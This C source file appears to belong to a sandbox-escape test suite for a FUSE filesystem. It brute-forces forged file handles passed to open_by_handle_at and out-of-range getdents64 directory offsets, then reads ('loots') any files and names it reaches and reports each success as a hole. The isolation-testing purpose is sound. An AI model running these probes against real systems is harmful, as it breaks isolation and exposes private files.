/* File handles and directory offsets that were never given to us. */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "escape.h"

#ifndef AT_HANDLE_FID
#define AT_HANDLE_FID AT_REMOVEDIR
#endif

#define FUSE_HANDLE 0x81 /* node (64 bits, the upper half first), generation */
#define FUSE_HANDLE_PARENT 0x82
#define HANDLE_MAX 128

struct forged {
    struct file_handle head;
    unsigned char bytes[HANDLE_MAX];
};

struct guess {
    int mount;
    struct tally tally;
    unsigned long tried;
};

/* What a handle opens is looked at, whatever it is. */
static void open_it(struct guess *guess, struct forged *handle)
{
    int fd = open_by_handle_at(guess->mount, &handle->head, O_RDONLY | O_CLOEXEC | O_NONBLOCK);
    tally_add(&guess->tally, fd);
    guess->tried++;
    if (fd < 0)
        return;
    char path[64];
    snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
    loot_link(path);
    loot_file(AT_FDCWD, path);
    loot_names(AT_FDCWD, path);
    close(fd);
}

static void forge(struct guess *guess, int type, uint64_t node, uint32_t generation)
{
    struct forged handle = {.head = {.handle_type = type}};
    uint32_t words[] = {(uint32_t)(node >> 32), (uint32_t)node, generation,
                        (uint32_t)(node >> 32), (uint32_t)node, generation};
    handle.head.handle_bytes = type == FUSE_HANDLE ? 12 : 24;
    memcpy(handle.head.f_handle, words, handle.head.handle_bytes);
    open_it(guess, &handle);
}

static const uint32_t generations[] = {0, 1, 2, 0xffffffffu, 0x12345678u};

static void guess_node(struct guess *guess, uint64_t node)
{
    for (size_t i = 0; i < sizeof(generations) / sizeof(*generations); i++) {
        forge(guess, FUSE_HANDLE, node, generations[i]);
        forge(guess, FUSE_HANDLE_PARENT, node, generations[i]);
    }
}

static void guess_line(void *context, char *line)
{
    guess_node(context, strtoull(line, NULL, 10));
}

/* Ids as fs/node.h makes them, of the first environments, services and names. */
static void guess_made(struct guess *guess)
{
    for (uint64_t environment = 0; environment < 6; environment++) {
        for (uint64_t kind = 0; kind < 16; kind++) {
            for (uint64_t what = 0; what < 40; what++) {
                uint64_t place = kind << 60 | environment << 40;
                guess_node(guess, place | what);
                guess_node(guess, place | what << 16);
                guess_node(guess, place | what << 16 | 1);
            }
        }
    }
}

/* All types that there may be, with sizes from nothing to the most. */
static void guess_types(struct guess *guess)
{
    for (int type = 0; type < 512; type++) {
        for (unsigned size = 0; size <= HANDLE_MAX; size += 4) {
            struct forged handle = {.head = {.handle_type = type, .handle_bytes = size}};
            unsigned char *const bytes = handle.head.f_handle;
            bytes[7 % HANDLE_MAX] = 1;
            if (size > 4)
                bytes[4] = 1;
            open_it(guess, &handle);
        }
    }
}

/* What the kernel says of our own, and what of it opens something: our own number with other
 * generations, our generation with other numbers. */
static void own_handle(struct guess *guess, int flags, const char *attempt)
{
    struct forged handle = {.head = {.handle_bytes = HANDLE_MAX}};
    int mount_id;
    long result = name_to_handle_at(AT_FDCWD, key, &handle.head, &mount_id, flags);
    may_do(attempt, result);
    if (result < 0)
        return;
    open_it(guess, &handle);
    uint32_t words[8] = {0};
    size_t size =
        handle.head.handle_bytes < sizeof(words) ? handle.head.handle_bytes : sizeof(words);
    memcpy(words, handle.head.f_handle, size);
    for (size_t i = 0; i < 8; i++) {
        for (uint64_t node = 0; node < 100; node++)
            forge(guess, FUSE_HANDLE, node, words[i]);
    }
}

static void own_number(struct guess *guess)
{
    struct stat status;
    if (stat(key, &status) == 0)
        guess_node(guess, status.st_ino);
    for (uint32_t generation = 0; generation < 1000; generation++)
        forge(guess, FUSE_HANDLE, status.st_ino, generation * 4294967u);
}

void try_handles(void)
{
    struct guess guess = {.mount = open(service, O_RDONLY | O_DIRECTORY | O_CLOEXEC)};
    own_handle(&guess, 0, "name_to_handle_at");
    own_handle(&guess, AT_HANDLE_FID, "name_to_handle_at(AT_HANDLE_FID)");
    own_number(&guess);
    for (uint64_t node = 0; node < limit; node++)
        guess_node(&guess, node);
    guess_made(&guess);
    each_line("ids", guess_line, &guess);
    guess_types(&guess);
    if (guess.tally.of[0])
        hole("forged handles", "%lu of %lu opened something", guess.tally.of[0], guess.tried);
    else
        tally_row("open_by_handle_at: small and made ids, real ids of others, all types",
                  &guess.tally);
    close(guess.mount);
}

/* Offsets in a directory that it never gave us. */
static void list_from(int directory, uint64_t offset, struct tally *tally)
{
    char records[32768];
    if (lseek(directory, (off_t)offset, SEEK_SET) < 0) {
        tally_add(tally, -1);
        return;
    }
    long n = syscall(SYS_getdents64, directory, records, sizeof(records));
    tally_add(tally, n < 0 ? -1 : 0);
    for (long i = 0; i < n;) {
        const struct dirent64 *record = (const struct dirent64 *)(records + i);
        loot_text(record->d_name);
        i += record->d_reclen;
    }
}

struct listing {
    int directory;
    struct tally tally;
};

static void list_line(void *context, char *line)
{
    struct listing *listing = context;
    uint64_t id = strtoull(line, NULL, 10);
    list_from(listing->directory, id, &listing->tally);
    list_from(listing->directory, id + 3, &listing->tally);
    list_from(listing->directory, (id & 0xffffffffffu) + 3, &listing->tally);
}

static void list_in(const char *path)
{
    char attempt[600];
    struct listing listing = {.directory = open(path, O_RDONLY | O_DIRECTORY | O_CLOEXEC)};
    for (uint64_t offset = 0; offset < limit / 10; offset++)
        list_from(listing.directory, offset, &listing.tally);
    for (unsigned bit = 0; bit < 64; bit++)
        list_from(listing.directory, 1ull << bit, &listing.tally);
    each_line("ids", list_line, &listing);
    snprintf(attempt, sizeof(attempt), "lists of %s from offsets that it did not give",
             strcmp(path, service) == 0 ? "the service" : "the root");
    tally_row(attempt, &listing.tally);
    close(listing.directory);
}

void try_offsets(void)
{
    list_in(view);
    list_in(service);
}
